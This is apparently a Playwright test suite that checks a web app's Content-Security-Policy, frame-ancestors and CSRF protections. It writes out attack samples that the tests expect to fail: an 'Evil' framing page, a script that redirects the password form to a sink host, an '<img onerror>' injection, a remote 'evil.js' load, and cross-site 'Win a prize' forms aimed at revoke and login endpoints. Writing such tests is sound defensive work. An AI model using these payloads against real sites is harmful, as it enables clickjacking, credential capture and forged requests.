"""What the pages' Content-Security-Policy lets through, and what it keeps out."""

import pytest
from playwright.async_api import Route

from tests.browser.conftest import Stage
from tests.browser.window import Window
from tests.flows.app import App
from tests.flows.sink import listening

pytestmark = [pytest.mark.anyio, pytest.mark.browser, pytest.mark.xdist_group("browser")]

FRAMED = (
    "/",
    "/login",
    "/signup",
    "/help/security",
    "/settings/apps",
    "/settings/sessions",
    "/settings/password",
    "/portal",
    "/nothing/here",
    "/oauth/authorize?oauth_token=x",
)


async def framed(stage: Stage, window: Window, url: str) -> str:
    """What a page of another site that holds a frame gets to show in it."""
    stage.sink.pages["/evil"] = (
        f'<!doctype html><title>Evil</title><iframe src="{url}" width="800" height="600"></iframe>'
    )
    await window.open(f"{stage.sink.address}/evil")
    (frame,) = window.page.frames[1:]
    await frame.wait_for_load_state()
    return str(await frame.evaluate("document.body ? document.body.innerText.trim() : ''"))


@pytest.mark.attack("SR-128")
async def test_no_page_can_be_framed_by_another_site(stage: Stage) -> None:
    ann, app = await stage.person(), await stage.app()
    window = await stage.window(ann)
    consent, pin = app.asking(), app.asking1(callback="oob")
    for url in (*(stage.base + path for path in FRAMED), consent, pin):
        assert await framed(stage, window, url) in {"", "localhost refused to connect."}, url
    await window.complains("frame-ancestors", len(FRAMED) + 2)
    # The control: the same frame shows a page that does not mind.
    assert await framed(stage, window, f"{stage.sink.address}/callback") == "Back at the app"


def without_target(target: str) -> object:
    """A door that takes one target out of the policy of a page, as if we had forgotten it."""

    async def handle(route: Route) -> None:
        answer = await route.fetch(max_redirects=0)
        headers = dict(answer.headers)
        assert target in headers["content-security-policy"]
        headers["content-security-policy"] = headers["content-security-policy"].replace(target, "")
        await route.fulfill(response=answer, headers=headers)

    return handle


@pytest.mark.attack("SR-129")
async def test_a_policy_without_the_callback_would_stop_the_way_back(stage: Stage) -> None:
    """The control for every walk that comes back to the app: Chromium does hold the redirect after a form to `form-action`."""
    ann, app = await stage.person(), await stage.app()
    window = await stage.window(ann)
    handle = without_target(stage.sink.address)
    asking = app.asking()
    await window.page.route(asking, handle)  # type: ignore[arg-type]
    await window.open(asking)
    await window.button("Authorize app").click()
    await window.complains("form-action")
    assert not stage.sink.arrivals


@pytest.mark.attack("SR-129", "SR-026")
async def test_an_app_that_listens_at_ipv6_is_reached(stage: Stage) -> None:
    """A policy has no word for such an address: Chromium passes over `http://[::1]:8000` and would stop the way back."""
    ann = await stage.person()
    with listening(ipv6=True) as sink:
        app = await stage.app(callback=sink.callback)
        window = await stage.window(ann)
        await window.open(app.asking())
        await window.press("Authorize app")
        assert window.page.url.startswith(sink.callback + "?")
        assert [arrival.method for arrival in sink.arrivals] == ["GET"]


@pytest.mark.attack("SR-129")
async def test_no_form_can_be_turned_to_another_site(stage: Stage) -> None:
    """Even a script that got into the page could not send what somebody types to a stranger."""
    ann, app = await stage.person(), await stage.app()
    window = await stage.window(ann)
    await window.open("/settings/password")
    await window.run(
        "(url) => { const form = document.querySelector('main form'); form.action = url; form.noValidate = true; form.submit(); }",
        stage.sink.callback,
    )
    await window.complains("form-action")
    await window.open(app.asking())
    await window.run(
        "(text) => document.body.insertAdjacentHTML('beforeend', text)", "<img src='data:,' onerror='stolen()'>"
    )
    await window.run(
        "(url) => document.head.append(Object.assign(document.createElement('script'), {src: url}))",
        stage.sink.address + "/evil.js",
    )
    await window.complains("Content Security Policy", 2)
    assert not stage.sink.arrivals


FORM = """<!doctype html><title>Evil</title><form method="post" action="{action}">{fields}<button>Win a prize</button></form>"""


async def trapped(stage: Stage, window: Window, path: str, **fields: str) -> None:
    """Press the button of another site's form that is sent to one of our doors."""
    inputs = "".join(f'<input name="{name}" value="{value}">' for name, value in fields.items())
    stage.sink.pages["/evil"] = FORM.format(action=stage.base + path, fields=inputs)
    await window.open(f"{stage.sink.address}/evil")
    await window.press("Win a prize")


@pytest.mark.attack("SR-136", "SR-139", "SR-147")
async def test_a_form_of_another_site_does_nothing(stage: Stage) -> None:
    ann, mallory, app = await stage.person(), await stage.person("Mallory Meier"), await stage.app()
    window = await stage.window(ann)
    await window.open(app.asking())
    await window.press("Authorize app")
    connection = app.connected(window.page.url)
    attacker = await stage.window(mallory)
    await attacker.open("/settings/password")
    csrf = await attacker.page.locator("main [name=csrf]").input_value()
    app_number = await row_number(window, app)
    for path in (
        f"/settings/apps/{app_number}/revoke",
        "/settings/apps/revoke-all",
        "/settings/sessions/log-out-others",
    ):
        await trapped(stage, window, path, csrf=csrf)
        # The session's cookie does not come along from another site: the door sees nobody and sends to the sign-in page, which
        # finds Ann signed in.
        await window.is_at("/home")
    await trapped(stage, window, "/logout", csrf=csrf)
    await window.open("/settings/apps")
    await window.sees(app.name)
    assert connection.username == ann.username

    # Somebody who is signed in nowhere is not signed in as Mallory without knowing it.
    nobody = await stage.window()
    await trapped(stage, nobody, "/login", csrf=csrf, login=mallory.username, password=mallory.password)
    assert nobody.status == 403
    await nobody.open("/settings")
    await nobody.is_at("/login?then=/settings")


async def row_number(window: Window, app: App) -> str:
    """The number of an app in the address of its page."""
    await window.open("/settings/apps")
    address = await window.page.get_by_role("link", name=app.name, exact=True).get_attribute("href") or ""
    return address.rpartition("/")[2]


@pytest.mark.attack("SR-141", "SR-146")
async def test_the_way_back_shows_nothing_after_signing_out(stage: Stage) -> None:
    ann, app = await stage.person(), await stage.app()
    window = await stage.window(ann)
    await window.open(app.asking())
    await window.press("Authorize app")
    await window.open("/settings/apps")
    await window.sees(app.name)
    await window.page.locator("details.account summary").click()
    await window.press("Log out")
    await window.page.go_back()
    await window.misses(app.name)
    await window.is_at("/login?then=/settings/apps")
